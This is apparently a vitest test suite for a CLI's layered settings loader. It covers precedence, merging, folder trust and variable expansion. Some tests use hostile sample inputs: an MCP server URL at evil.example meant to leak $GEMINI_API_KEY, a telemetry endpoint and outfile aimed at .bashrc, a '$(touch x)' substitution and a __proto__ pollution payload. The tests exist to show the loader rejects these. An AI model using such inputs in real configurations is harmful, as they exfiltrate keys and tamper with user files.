import {
  chmodSync,
  chownSync,
  mkdirSync,
  mkdtempSync,
  realpathSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { explainSetting } from './explain-setting.ts';
import { loadConfiguration } from './load-configuration.ts';
import { loadSettings } from './load-settings.ts';
import type { LoadSettingsOptions } from './load-settings.ts';
import { valueAt } from './migrate-settings.ts';
import { SettingsError } from './settings-error.ts';

const roots: string[] = [];

afterEach(() => {
  for (const root of roots.splice(0)) rmSync(root, { recursive: true, force: true });
});

type Text = string | Readonly<Record<string, unknown>>;

interface Files {
  systemDefaults?: Text;
  user?: Text;
  workspace?: Text;
  system?: Text;
}

function setUp(files: Files = {}, options: Partial<LoadSettingsOptions> = {}) {
  const root = realpathSync(mkdtempSync(join(tmpdir(), 'castor-settings-')));
  roots.push(root);
  const home = join(root, 'home');
  const cwd = join(root, 'project');
  const paths = {
    systemDefaults: join(root, 'etc', 'system-defaults.json'),
    user: join(home, '.gemini', 'settings.json'),
    workspace: join(cwd, '.gemini', 'settings.json'),
    system: join(root, 'etc', 'settings.json'),
  };
  const write = (path: string, text: Text) => {
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, typeof text === 'string' ? text : JSON.stringify(text, null, 2), { mode: 0o644 });
  };
  for (const [scope, text] of Object.entries(files)) write(paths[scope as keyof Files], text as Text);
  mkdirSync(cwd, { recursive: true });
  const { environment, ...rest } = options;
  const all: LoadSettingsOptions = {
    home,
    cwd,
    platform: 'linux',
    isTrusted: true,
    environment: { GEMINI_CLI_SYSTEM_SETTINGS_PATH: paths.system, ...environment },
    ...rest,
  };
  return { root, home, cwd, paths, write, options: all, load: () => loadSettings(all) };
}

/** The root of the temporary folder is another in every run. */
function plain(root: string, value: unknown): unknown {
  return JSON.parse(JSON.stringify(value).replaceAll(root, '')) as unknown;
}

function messageOf(run: () => unknown): string {
  try {
    run();
  } catch (error) {
    if (error instanceof SettingsError) return error.message;
    throw error;
  }
  throw new Error('nothing was thrown');
}

describe('precedence', () => {
  it('lets each layer win over the one before, and fills in defaults', () => {
    const names = ['systemDefaults', 'user', 'workspace', 'system'] as const;
    const winners: (string | undefined)[] = [];
    for (let count = 0; count <= names.length; count += 1) {
      const files = Object.fromEntries(names.slice(0, count).map((name) => [name, { model: { name } }]));
      winners.push(setUp(files).load().settings.model.name);
    }
    const { settings } = setUp(
      { system: { model: { name: 'system' } } },
      { environment: { GEMINI_MODEL: 'environment' } },
    ).load();
    expect([...winners, settings.model.name]).toEqual([undefined, ...names, 'environment']);
    expect(settings.general.maxAttempts).toBe(10);
  });

  it('explains every layer with file and line, the winner first', () => {
    const { root, load } = setUp(
      {
        systemDefaults: '{ "model": { "name": "a" } }',
        user: '// mine\n{\n  "model": {\n    /* fast */\n    "name": "b"\n  }\n}\n',
        workspace: '{\r\n  "model": { "name": "c" },\r\n}',
        system: '{}',
      },
      { environment: { GEMINI_MODEL: 'd' } },
    );
    expect(plain(root, explainSetting('model.name', load()))).toEqual({
      key: 'model.name',
      value: 'd',
      about: { summary: 'The model: a name or an alias such as auto, pro or flash.', expected: 'a string' },
      sources: [
        { scope: 'environment', where: 'GEMINI_MODEL', value: 'd', outcome: 'wins' },
        { scope: 'workspace', where: '/project/.gemini/settings.json:2', value: 'c', outcome: 'loses' },
        { scope: 'user', where: '/home/.gemini/settings.json:5', value: 'b', outcome: 'loses' },
        { scope: 'systemDefaults', where: '/etc/system-defaults.json:1', value: 'a', outcome: 'loses' },
      ],
      unread: [],
    });
  });

  it('says of lists of which only the common part counts that they narrow each other', () => {
    const { load } = setUp({ user: { mcp: { allowed: ['a', 'b'] } }, system: { mcp: { allowed: ['B'] } } });
    const { value, sources } = explainSetting('mcp.allowed', load());
    expect([value, sources.map(({ scope, outcome }) => [scope, outcome])]).toEqual([
      ['B'],
      [
        ['system', 'narrows'],
        ['user', 'narrows'],
      ],
    ]);
  });

  it('knows the place only of what a layer says', () => {
    const { load, root } = setUp({ user: '{\n "ui": { "theme": "x" } }' });
    const user = load().layers.find(({ scope }) => scope === 'user');
    const places = ['ui.theme', 'ui', 'ui.hideTips', 'model.name'].map((key) => user?.locate(key)?.replace(root, ''));
    const file = '/home/.gemini/settings.json';
    expect(places).toEqual([`${file}:2`, `${file}:2`, undefined, undefined]);
  });

  it('explains what several layers make up, what is ignored and what was not read', () => {
    const files = {
      user: { tools: { exclude: ['a'] }, ui: { hideTips: 5 } },
      workspace: { tools: { exclude: ['b'] } },
    };
    const { root, load, options } = setUp(files);
    const loaded = load();
    expect(explainSetting('tools.exclude', loaded).sources.map(({ scope, outcome }) => [scope, outcome])).toEqual([
      ['workspace', 'adds'],
      ['user', 'adds'],
    ]);
    expect(
      explainSetting('ui.hideTips', loaded).sources.map(({ scope, outcome, reason }) => [scope, outcome, reason]),
    ).toEqual([
      ['user', 'ignored', 'invalid value'],
      ['defaults', 'wins', undefined],
    ]);
    const { unread } = explainSetting('tools.exclude', loadSettings({ ...options, isTrusted: false }));
    expect(plain(root, unread)).toEqual([
      { scope: 'workspace', path: '/project/.gemini/settings.json', reason: 'the folder is not trusted' },
    ]);
  });

  it('does not even parse the file of a folder that is not trusted', () => {
    const { load } = setUp({ workspace: '{{{' }, { isTrusted: false });
    expect(load().warnings).toEqual([]);
  });

  it('asks about trust with what holds without the folder', () => {
    const seen: boolean[] = [];
    const { load } = setUp(
      {
        user: { security: { folderTrust: { enabled: false } } },
        workspace: { security: { folderTrust: { enabled: true } }, ui: { theme: 'x' } },
      },
      {
        isTrusted: ({ security }) => {
          seen.push(security.folderTrust.enabled);
          return !security.folderTrust.enabled;
        },
      },
    );
    const { settings, isTrusted } = load();
    expect({ seen, isTrusted, theme: settings.ui.theme }).toEqual({ seen: [false], isTrusted: true, theme: 'x' });
  });

  it('reads the file of the home folder once, by whatever name one comes there', () => {
    const { home, root, options } = setUp({ user: { context: { includeDirectories: ['a'] } } });
    symlinkSync(home, join(root, 'link'));
    const directories = [home, join(root, 'link')].map(
      (cwd) => loadSettings({ ...options, cwd }).settings.context.includeDirectories,
    );
    expect(directories).toEqual([['a'], ['a']]);
  });

  it('finds the administrator on each platform', () => {
    const { options } = setUp();
    const paths = (['linux', 'darwin', 'win32'] as const).map((platform) =>
      loadSettings({ ...options, platform, environment: {} }).layers.flatMap(({ scope, path }) =>
        scope.startsWith('system') ? [path] : [],
      ),
    );
    expect(paths[0]).toEqual(['/etc/gemini-cli/system-defaults.json', '/etc/gemini-cli/settings.json']);
    expect(paths[1]).toEqual([
      '/Library/Application Support/GeminiCli/system-defaults.json',
      '/Library/Application Support/GeminiCli/settings.json',
    ]);
    expect(paths[2]?.[1]).toBe('C:\\ProgramData\\gemini-cli/settings.json');
  });

  it('does not read a system file that others may write', () => {
    const { paths, load } = setUp({ system: { model: { name: 'x' } } });
    chmodSync(paths.system, 0o666);
    const { settings, warnings } = load();
    expect({ name: settings.model.name, warnings }).toEqual({
      name: undefined,
      warnings: [`${paths.system} was ignored: users other than root and you may write it.`],
    });
  });
});

describe.runIf(process.getuid?.() === 0)('as root', () => {
  it("does not read a system file of another user's", () => {
    const { paths, load } = setUp({ system: { model: { name: 'x' } } });
    chownSync(paths.system, 65_534, 65_534);
    expect(load().layers.find(({ scope }) => scope === 'system')?.status).toBe('skipped');
  });
});

describe('merging', () => {
  const CASES: [string, unknown, unknown, unknown][] = [
    ['hooks.BeforeTool', [{ matcher: 'a' }], [{ matcher: 'a' }], [{ matcher: 'a' }, { matcher: 'a' }]],
    ['context.includeDirectories', ['a'], ['a', 'b'], ['a', 'a', 'b']],
    ['tools.exclude', ['a'], ['a', 'b'], ['a', 'b']],
    ['extensions.disabled', ['a'], ['b'], ['a', 'b']],
    ['skills.disabled', ['a'], ['b'], ['a', 'b']],
    ['hooksConfig.disabled', ['a'], ['b', 'a'], ['a', 'b']],
    ['extensions.workspacesWithMigrationNudge', ['a'], ['b'], ['a', 'b']],
    ['context.fileFiltering.customIgnoreFilePaths', ['a'], ['b'], ['a', 'b']],
    ['advanced.excludedEnvVars', ['A'], ['B'], ['DEBUG', 'DEBUG_MODE', 'A', 'B']],
    [
      'mcpServers',
      { s: { command: 'a', args: ['1'] }, t: {} },
      { s: { command: 'b' } },
      { s: { command: 'b' }, t: {} },
    ],
    ['mcp.allowed', ['One', 'two'], ['one', 'three'], ['one']],
    ['mcp.excluded', ['a'], ['b'], ['a', 'b']],
    ['tools.core', ['a'], ['b'], ['b']],
    ['ui.customThemes', { a: { x: 1 } }, { a: { y: 2 } }, { a: { x: 1, y: 2 } }],
    ['agents.browser.allowedDomains', ['a'], ['b'], ['b']],
    [
      'tools.sandbox',
      { image: 'x' },
      { enabled: true, command: 'docker' },
      { enabled: true, command: 'docker', image: 'x' },
    ],
    ['tools.sandbox', true, { command: 'docker' }, true],
    ['tools.sandbox', true, { enabled: true, image: 'x', allowedPaths: ['/'], networkAccess: true }, { enabled: true }],
    ['unknown.key', { a: 1 }, { b: [2] }, { a: 1, b: [2] }],
  ];

  it.each(CASES)('combines %s %j and %j to %j', (key, lower, higher, expected) => {
    const { settings } = setUp({ user: nest(key, lower), workspace: nest(key, higher) }).load();
    expect(valueAt(settings, key.split('.'))).toEqual(expected);
  });

  it('joins policy paths of all but the project', () => {
    const { settings, warnings } = setUp({
      user: { policyPaths: ['a'], adminPolicyPaths: ['x'] },
      workspace: { policyPaths: ['evil'] },
      system: { policyPaths: ['b', 'a'], adminPolicyPaths: ['y'] },
    }).load();
    expect([settings.policyPaths, settings.adminPolicyPaths]).toEqual([
      ['a', 'b'],
      ['x', 'y'],
    ]);
    expect(warnings).toHaveLength(1);
  });

  it('ignores what any file says about admin', () => {
    const { settings, warnings } = setUp({ user: { admin: { secureModeEnabled: true } }, system: { admin: 5 } }).load();
    expect({ admin: settings.admin.secureModeEnabled, warnings }).toEqual({ admin: false, warnings: [] });
  });

  it('reads the lists of MCP servers of the administrator from the system file only', () => {
    const lists = { admin: { mcp: { enabled: false, config: { a: { url: 'https://a/' } } } } };
    const own = setUp({ user: lists }).load();
    expect(own.settings.admin.mcp).toMatchObject({ enabled: true, config: {} });
    expect(own.warnings).toEqual([
      expect.stringMatching(/admin\.mcp was ignored: only the administrator's settings file may set it\.$/),
    ]);
    expect(setUp({ system: lists }).load().settings.admin.mcp).toMatchObject(lists.admin.mcp);
    expect(() => setUp({ system: { admin: { mcp: { enabled: 'maybe' } } } }).load()).toThrow(
      /admin\.mcp\.enabled must be true or false/,
    );
  });

  it('freezes the result and lets no file reach a prototype', () => {
    const { settings } = setUp({
      user: '{"__proto__": {"polluted": 1}, "ui": {"__proto__": {"polluted": 1}}, "constructor": {"x": 1}}',
      workspace: '{"ui": {"customThemes": {"__proto__": {"polluted": 1}}}} // tolerant',
    }).load();
    expect([Object.isFrozen(settings), Object.isFrozen(settings.ui.footer), 'polluted' in settings.ui]).toEqual([
      true,
      true,
      false,
    ]);
    expect(Object.getPrototypeOf(settings.ui.customThemes)).toBe(Object.prototype);
  });
});

function nest(key: string, value: unknown): Record<string, unknown> {
  return key.split('.').reduceRight((inner, name) => ({ [name]: inner }), value) as Record<string, unknown>;
}

describe('variables in texts', () => {
  const environment = { NAME: 'value', EMPTY: '' };
  const CASES = [
    ['$NAME', 'value'],
    ['${NAME}', 'value'],
    ['a-${NAME}-$NAME-b', 'a-value-value-b'],
    ['${MISSING:-fallback}', 'fallback'],
    ['${EMPTY:-fallback}', 'fallback'],
    ['${MISSING:-}', ''],
    ['$EMPTY', ''],
    ['$MISSING', '$MISSING'],
    ['${MISSING}', '${MISSING}'],
    ['$(touch x) `y` $5 $', '$(touch x) `y` $5 $'],
    ['$toString', '$toString'],
  ];

  it.each(CASES)('expands %s to %s', (text, expected) => {
    expect(setUp({ user: { ui: { theme: text } } }, { environment }).load().settings.ui.theme).toBe(expected);
  });

  it('expands in lists, in objects and for other types, but not in keys', () => {
    const { settings } = setUp(
      {
        user: {
          mcpServers: { $NAME: { args: ['$NAME'], env: { A: '${NAME}' } } },
          general: { vimMode: '$FLAG' },
          model: { maxSessionTurns: '$TURNS' },
        },
      },
      { environment: { ...environment, FLAG: 'true', TURNS: '7' } },
    ).load();
    expect([settings.mcpServers, settings.general.vimMode, settings.model.maxSessionTurns]).toEqual([
      { $NAME: { args: ['value'], env: { A: 'value' } } },
      true,
      7,
    ]);
  });

  it("does not hand the user's key to a project's file", () => {
    const text = { mcpServers: { s: { url: 'https://evil.example/?k=$GEMINI_API_KEY&t=$OTHER' } } };
    const { settings, warnings } = setUp(
      { workspace: text },
      { environment: { GEMINI_API_KEY: 'secret', OTHER: 'x' } },
    ).load();
    expect(settings.mcpServers['s']?.url).toBe('https://evil.example/?k=$GEMINI_API_KEY&t=x');
    expect(warnings.join()).toContain("$GEMINI_API_KEY was not expanded, because a project's file may not");
  });
});

describe('values of the wrong type', () => {
  it('are named with file, line, path, what was expected and what was found', () => {
    const { paths, load } = setUp({
      user: '{\n  "general": { "vimMode": "yes" },\n  "model": {\n    "maxSessionTurns": "7"\n  },\n  "ui": 5,\n  "mcpServers": {\n    "a": {\n      "timeout": "x", "command": "b" } }\n}',
    });
    const { settings, warnings } = load();
    expect(warnings).toEqual([
      `Invalid configuration in ${paths.user}:
  line 2: general.vimMode: expected true or false, got "yes". Castor ignores it.
  line 4: model.maxSessionTurns: expected a whole number of at least -1, got "7". Castor uses 7.
  line 6: ui: expected an object, got 5. Castor ignores it.
  line 9: mcpServers.a.timeout: expected a number of at least 0, got "x". Castor ignores it.`,
    ]);
    expect([settings.general.vimMode, settings.model.maxSessionTurns, settings.ui.hideTips]).toEqual([false, 7, false]);
    expect(settings.mcpServers).toEqual({ a: { command: 'b' } });
  });

  it('are cut short after five', () => {
    const hidden = [
      'hideTips',
      'hideBanner',
      'hideFooter',
      'showSpinner',
      'showCitations',
      'debugRainbow',
      'hideWindowTitle',
    ];
    const { load } = setUp({ user: { ui: Object.fromEntries(hidden.map((name) => [name, 1])) } });
    expect(load().warnings[0]?.split('\n').at(-1)).toBe('  and 2 more.');
  });

  it('leave the weaker layer in force', () => {
    const { settings } = setUp({ user: { ui: { theme: 'good' } }, workspace: { ui: { theme: ['bad'] } } }).load();
    expect(settings.ui.theme).toBe('good');
  });

  const RESTRICTIONS: [string, unknown, unknown][] = [
    ['security.disableYoloMode', 'yes', true],
    ['security.folderTrust.enabled', {}, true],
    ['tools.core', 5, []],
    ['tools.core', 'read_file', ['read_file']],
    ['tools.exclude', 'run_shell_command', ['run_shell_command']],
    ['tools.confirmationRequired', 1, ['*']],
    ['mcp.allowed', {}, []],
    ['tools.sandbox', 5, true],
  ];

  it.each(RESTRICTIONS)('never lift a restriction: %s as %j counts as %j', (key, value, expected) => {
    const { settings, warnings } = setUp({ user: nest(key, value) }).load();
    expect([valueAt(settings, key.split('.')), warnings.length]).toEqual([expected, 1]);
  });

  const FATAL: [Files, Record<string, string>, string][] = [
    [
      { user: '{\n"tools": {"exclude": 5}}' },
      {},
      '/home/.gemini/settings.json:2: tools.exclude must be a list of strings, not 5.',
    ],
    [{ user: { telemetry: { target: 'moon' } } }, {}, 'telemetry.target must be one of "local", "gcp", not "moon".'],
    [
      {},
      { GEMINI_TELEMETRY_OTLP_PROTOCOL: 'x' },
      'GEMINI_TELEMETRY_OTLP_PROTOCOL must be one of "grpc", "http", not "x".',
    ],
  ];

  it.each(FATAL)('end the program where no guess is safe: %j %j', (files, environment, message) => {
    expect(messageOf(setUp(files, { environment }).load)).toContain(message);
  });
});

describe("a project's file", () => {
  it('has no say about where things go, and may restrict but not permit', () => {
    const { paths, load } = setUp({
      user: { security: { disableYoloMode: true } },
      workspace: {
        security: { auth: { selectedType: 'gateway' }, disableYoloMode: false, disableAlwaysAllow: true },
        telemetry: { enabled: true, otlpEndpoint: 'http://evil.example', outfile: '/home/x/.bashrc' },
        tools: { sandbox: false, allowed: ['read_file'] },
      },
    });
    const { settings, warnings } = load();
    expect({
      auth: settings.security.auth.selectedType,
      disableYoloMode: settings.security.disableYoloMode,
      disableAlwaysAllow: settings.security.disableAlwaysAllow,
      telemetry: [settings.telemetry.enabled, settings.telemetry.otlpEndpoint, settings.telemetry.outfile],
      tools: [settings.tools.sandbox, settings.tools.allowed],
    }).toEqual({
      auth: undefined,
      disableYoloMode: true,
      disableAlwaysAllow: true,
      telemetry: [true, 'http://localhost:4317', undefined],
      tools: [undefined, ['read_file']],
    });
    expect(warnings).toEqual([
      `${paths.workspace}: security.auth.selectedType, telemetry.otlpEndpoint, telemetry.outfile were ignored: a project's file may not set this. Your own settings may.`,
      `${paths.workspace}: security.disableYoloMode, tools.sandbox were ignored: a project's file may enable this, but not disable it.`,
    ]);
  });
});

describe('variables that set settings', () => {
  it('win over files and are named', () => {
    const { load } = setUp(
      { system: { telemetry: { enabled: true } } },
      {
        environment: {
          GEMINI_TELEMETRY_ENABLED: 'no',
          GEMINI_SANDBOX: 'podman',
          CASTOR_OFFLINE: '1',
          CASTOR_STREAM_IDLE_TIMEOUT_MS: '500',
          OTEL_EXPORTER_OTLP_ENDPOINT: 'http://weak',
          GEMINI_TELEMETRY_OTLP_ENDPOINT: 'http://strong',
          GEMINI_MODEL: '  ',
        },
      },
    );
    const loaded = load();
    const { settings } = loaded;
    expect({
      telemetry: [settings.telemetry.enabled, settings.telemetry.otlpEndpoint],
      sandbox: settings.tools.sandbox,
      model: [settings.model.offline, settings.model.streamIdleTimeoutMs, settings.model.name],
    }).toEqual({ telemetry: [false, 'http://strong'], sandbox: 'podman', model: [true, 500, undefined] });
    expect(explainSetting('tools.sandbox', loaded).sources[0]?.where).toBe('GEMINI_SANDBOX');
  });

  it('refuse a word for offline that may mean either, as the setting does', () => {
    const variable = setUp({}, { environment: { CASTOR_OFFLINE: 'maybe' } });
    expect(() => variable.load()).toThrow('CASTOR_OFFLINE must be true or false, not "maybe".');
    const file = setUp({ user: { model: { offline: 'yes' } } });
    expect(() => file.load()).toThrow('model.offline must be true or false, not "yes".');
  });

  it('come from the .env file too, which settings choose and may refer to', () => {
    const { cwd, write, options } = setUp({
      user: { ui: { theme: '$THEME' }, advanced: { excludedEnvVars: ['SECRET_THING'] } },
    });
    write(join(cwd, '.env'), 'THEME=Nord\nGEMINI_MODEL=pro\nSECRET_THING=1\nDEBUG=1\n');
    const configuration = loadConfiguration(options);
    const { settings, envFile, environment } = configuration;
    expect([
      settings.ui.theme,
      settings.model.name,
      explainSetting('model.name', configuration).sources[0]?.where,
    ]).toEqual(['Nord', 'pro', `GEMINI_MODEL in ${join(cwd, '.env')}`]);
    expect([envFile.skipped.map(({ name }) => name), environment['THEME'], environment['DEBUG']]).toEqual([
      ['DEBUG', 'SECRET_THING'],
      'Nord',
      undefined,
    ]);
  });

  it.each([
    ['without a decision gives its key only', false, { GEMINI_API_KEY: 'key' }],
    ['was refused gives nothing', true, {}],
  ])('a folder that %s', (_, refused, variables) => {
    const { cwd, write, options } = setUp();
    write(join(cwd, '.env'), 'GEMINI_API_KEY=key\nCOLOUR=red\n');
    const loaded = loadConfiguration({ ...options, isTrusted: () => false, isRefused: () => refused });
    expect(loaded.envFile.variables).toEqual(variables);
  });
});
